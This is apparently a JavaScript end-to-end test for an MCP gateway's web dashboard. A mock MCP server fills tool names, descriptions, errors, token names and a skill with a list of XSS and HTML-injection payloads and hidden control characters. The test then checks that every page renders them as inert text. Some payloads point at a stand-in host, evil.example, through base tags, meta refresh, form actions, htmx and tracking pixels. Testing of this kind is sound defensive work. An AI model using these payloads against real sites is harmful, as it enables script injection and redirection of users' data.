// Texts that try everything, wherever a page shows what somebody else wrote: tools and errors of a server, names of
// clients, tokens, servers and workspaces, skills. No script runs, nothing is loaded, nothing is wider than the page.

import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import fs from "node:fs";
import http from "node:http";
import path from "node:path";

const PAYLOADS = [
  `<script>window.broken=1</script>`,
  `</script><script>window.broken=1</script>`,
  `"><script>window.broken=1</script>`,
  `'><img src=x onerror=window.broken=1>`,
  `<img src=x onerror="window.broken=1">`,
  `<svg onload=window.broken=1>`,
  `<svg><script>window.broken=1</script></svg>`,
  `" onmouseover="window.broken=1`,
  `' onfocus='window.broken=1' autofocus='`,
  "` onload=`window.broken=1",
  `javascript:window.broken=1`,
  `<a href="javascript:window.broken=1">x</a>`,
  `<iframe srcdoc="<script>parent.broken=1</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.broken=1</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=window.broken=1>">`,
  `<style>*{display:none}</style>`,
  `</textarea><script>window.broken=1</script>`,
  `</title><script>window.broken=1</script>`,
  `<!--<script>window.broken=1</script>`,
  `]]><script>window.broken=1</script>`,
  `<math><mtext></mtext><img src=x onerror=window.broken=1></math>`,
  `<details open ontoggle=window.broken=1>`,
  `<body onload=window.broken=1>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<form action="https://evil.example/"><button>Save</button></form>`,
  `{{ 7 * 7 }} {% raw %} \${7*7} <%= 7*7 %>`,
  `&lt;script&gt;window.broken=1&lt;/script&gt;`,
  `<div hx-get="https://evil.example/" hx-trigger="load">x</div>`,
  `<img src="https://evil.example/pixel.png">`,
];
/** What turns text around, what no terminal should get, and no end. */
const HIDDEN = "\u202Egnp.exe\u0007\u001B[2J\u200B\u2066";
const LONG = "w".repeat(10_000);

/** An MCP server of 2026-07-28 that says these things in every place it has. */
async function evil() {
  const asked = [];
  let at = "";
  const said = (n) => `${PAYLOADS[n]}${HIDDEN}`;
  const tools = () => [
    ...PAYLOADS.map((payload, n) => ({
      name: n % 2 ? `${payload}${HIDDEN}` : `tool_${n}`,
      title: said(n),
      description: n === 3 ? LONG : said(n),
      icons: [{ src: `${at}/icon.svg` }, { src: payload }],
      annotations: { title: said(n), readOnlyHint: true },
      inputSchema: {
        type: "object",
        title: said(n),
        properties: { [payload]: { type: "string", title: said(n), description: n === 4 ? LONG : said(n), enum: PAYLOADS.slice(0, 5), default: payload } },
      },
    })),
    { name: "n".repeat(300), description: "A name without an end.", inputSchema: { type: "object" } },
  ];
  const answers = {
    "server/discover": () => ({
      resultType: "complete", supportedVersions: ["2026-07-28"], capabilities: { tools: {} }, ttlMs: 0, cacheScope: "private",
      instructions: said(0),
      serverInfo: { name: said(1), title: said(2), version: said(3), websiteUrl: "javascript:window.broken=1", icons: [{ src: `${at}/icon.svg` }] },
    }),
    "tools/list": () => ({ tools: tools(), resultType: "complete", ttlMs: 0, cacheScope: "private" }),
  };
  let calls = 0;
  const server = http.createServer((request, response) => {
    let body = "";
    request.on("data", (data) => (body += data));
    request.on("end", () => {
      asked.push(`${request.method} ${request.url}`);
      if (request.method !== "POST") return response.writeHead(404).end();
      const { id, method } = JSON.parse(body);
      const answer = { jsonrpc: "2.0", id };
      if (method === "tools/call") {
        const n = calls++ % PAYLOADS.length;
        if (n % 2) answer.error = { code: -32050, message: said(n), data: { why: said(n) } };
        else answer.result = { resultType: "complete", isError: true, content: [{ type: "text", text: said(n) }] };
      } else if (answers[method]) answer.result = answers[method]();
      else answer.error = { code: -32601, message: said(0) };
      response.writeHead(answer.error && method !== "tools/call" ? 404 : 200, { "content-type": "application/json" });
      response.end(JSON.stringify(answer));
    });
  });
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  at = `http://127.0.0.1:${server.address().port}`;
  return { asked, url: `${at}/mcp`, stop: () => server.close() };
}

/** A call whose client calls itself `client`, in its body and in its head. */
async function call(gateway, token, name, client, method = "tools/call") {
  const meta = {
    "io.modelcontextprotocol/protocolVersion": "2026-07-28",
    "io.modelcontextprotocol/clientInfo": { name: client, title: client, version: client },
    "io.modelcontextprotocol/clientCapabilities": {},
  };
  const headers = {
    authorization: `Bearer ${token}`,
    "content-type": "application/json",
    accept: "application/json, text/event-stream",
    "user-agent": client.replace(/[^\x20-\x7e]/g, ""),
    "mcp-protocol-version": "2026-07-28",
    "mcp-method": method,
  };
  const params = method === "tools/call" ? { name, arguments: {}, _meta: meta } : { _meta: meta };
  if (method === "tools/call") headers["mcp-name"] = name;
  const body = JSON.stringify({ jsonrpc: "2.0", id: 1, method, params });
  return fetch(`${gateway.url}/ws/hostile`, { method: "POST", headers, body });
}

/** A skill that says them. */
function publish(gateway) {
  const folder = path.join(gateway.folder, "hostile-skill");
  fs.mkdirSync(folder);
  const run = (args) => {
    const done = spawnSync(gateway.bin, args, { env: gateway.environment, cwd: folder, encoding: "utf8" });
    assert.equal(done.status, 0, `aerostack ${args.join(" ")}: ${done.stdout}${done.stderr}`);
  };
  run(["skill", "init", "hostile-skill"]);
  const file = path.join(folder, "aerostack.json");
  const manifest = JSON.parse(fs.readFileSync(file, "utf8"));
  manifest.tool.description = PAYLOADS.slice(0, 6).join(" ");
  fs.writeFileSync(file, JSON.stringify(manifest));
  const document = path.join(folder, "SKILL.md");
  fs.appendFileSync(document, `\n${PAYLOADS.join("\n\n")}\n`);
  run(["skill", "publish", "--private", "team"]);
  gateway.run(["skill", "install", "@acme/hostile-skill", "--workspace", "hostile"]);
}

const PAGES = [
  "/overview",
  "/workspaces",
  "/analytics?by=tool",
  "/analytics?by=user",
  "/calls",
  "/workspaces/hostile/connect",
  "/workspaces/hostile/tokens",
  "/workspaces/hostile/tools",
  "/workspaces/hostile/servers",
  "/workspaces/hostile/analytics?by=user",
  "/workspaces/hostile/calls?show=failed",
  "/workspaces/hostile/diet",
  "/workspaces/hostile/members",
  "/workspaces/hostile/audit",
  "/workspaces/hostile/settings",
  "/servers",
  "/servers/hostile-mcp",
  "/servers/hostile-mcp/tools",
  "/servers/hostile-mcp/logs",
  "/servers/hostile-mcp/settings",
  "/hub?show=skills",
  "/live?workspace=hostile",
  "/playground?workspace=hostile",
  "/audit",
];

/** Nothing of it is more than text, and it stays inside the page. */
async function harmless(page, at, width) {
  const found = await page.evaluate(() => ({
    broken: window.broken,
    made: [...document.querySelectorAll("main :is(img, iframe, object, embed, script, style, base, meta, math)")].map((one) => one.outerHTML.slice(0, 120)),
    armed: [...document.querySelectorAll("*")].filter((one) => [...one.attributes].some(({ name, value }) => name.startsWith("on") || (["href", "src", "action"].includes(name) && /^\s*(javascript|data):/i.test(value)) || (name.startsWith("hx-") && value.includes("evil")))).map((one) => one.outerHTML.slice(0, 120)),
    hidden: /[\u0000-\u0008\u000b-\u001f\u200b\u202a-\u202e\u2066-\u2069]/.exec(document.documentElement.textContent)?.index,
    wide: document.documentElement.scrollWidth,
    shown: document.querySelector("main").innerText.trim().length,
  }));
  assert.equal(found.broken, undefined, `${at}: a script ran`);
  assert.deepEqual(found.made, [], `${at}: markup became elements`);
  assert.deepEqual(found.armed, [], `${at}: markup became attributes`);
  assert.equal(found.hidden, undefined, `${at}: characters that hide`);
  assert.ok(found.shown > 0, `${at}: something is shown`);
  assert.ok(found.wide <= width, `${at}: ${found.wide} px in a window of ${width}`);
}

export const HOSTILE_FLOWS = {
  async "Hostile texts of servers, clients, people and skills are text, on every page and at 360 px"({ watched, gateway, looks }) {
    const server = await evil();
    try {
      gateway.run(["workspace", "create", "hostile", "--name", PAYLOADS[1]]);
      gateway.run(["mcp", "add", "hostile-mcp", "--url", server.url, "--title", PAYLOADS[2]]);
      gateway.run(["mcp", "install", "hostile-mcp", "--workspace", "hostile"]);
      publish(gateway);
      const tokens = PAYLOADS.map((payload) => gateway.run(["workspace", "token", "create", "hostile", "--name", payload, "--output", "token"]).trim());
      const listed = await (await call(gateway, tokens[0], "", PAYLOADS[0], "tools/list")).json();
      const names = listed.result.tools.map((tool) => tool.name).filter((name) => name.startsWith("hostile__"));
      // Those with a name that no client could use are not offered; pages show them all the same.
      assert.ok(names.length >= PAYLOADS.length / 2, `its tools are offered: ${names.length}`);
      for (const [n, token] of tokens.entries()) {
        const answer = await call(gateway, token, names[n % names.length], n === 5 ? LONG : `${PAYLOADS[n]}${HIDDEN}`);
        assert.equal(answer.status, 200);
        await answer.text();
      }
      for (const look of looks) {
        const page = await watched.signedIn(look);
        const seen = async (at) => harmless(page, at, look.viewport.width);
        for (const at of PAGES) {
          await page.goto(gateway.url + at);
          await seen(at);
        }
        // A token's own page, a tool's form and its answer, a connection that is tested, a call that is watched.
        await page.goto(`${gateway.url}/workspaces/hostile/tokens`);
        await page.locator("td a.name").first().click();
        await page.waitForURL("**/tokens/tok_**");
        await seen("a token's page");
        for (const name of names.slice(0, 6)) {
          await page.goto(`${gateway.url}/playground?workspace=hostile&tool=${encodeURIComponent(name)}`);
          await seen(`the form of ${name}`);
          await page.click("button:has-text('Call tool')");
          await page.locator("#answer").waitFor();
          await seen(`the answer of ${name}`);
        }
        await page.goto(`${gateway.url}/servers/hostile-mcp`);
        await page.click("button:has-text('Test connection')");
        await page.locator("#test").waitFor();
        await seen("a tested connection");
        await page.goto(`${gateway.url}/live?workspace=hostile`);
        await page.locator("#stream >> text=streaming").waitFor();
        await (await call(gateway, tokens[4], names[1], `${PAYLOADS[4]}${HIDDEN}`)).text();
        await page.locator("#calls tr").first().click();
        await page.locator("#call-tool", { hasText: "hostile__" }).waitFor();
        await seen("a watched call");
        await page.goto(`${gateway.url}/palette?q=script`);
        assert.equal(await page.evaluate(() => window.broken), undefined);
        assert.equal(await page.locator("script, img").count(), 0, "the palette");
        await page.context().close();
      }
      assert.deepEqual(server.asked.filter((one) => !one.startsWith("POST ")), [], "no page loads a server's icon");
    } finally {
      server.stop();
    }
  },
};
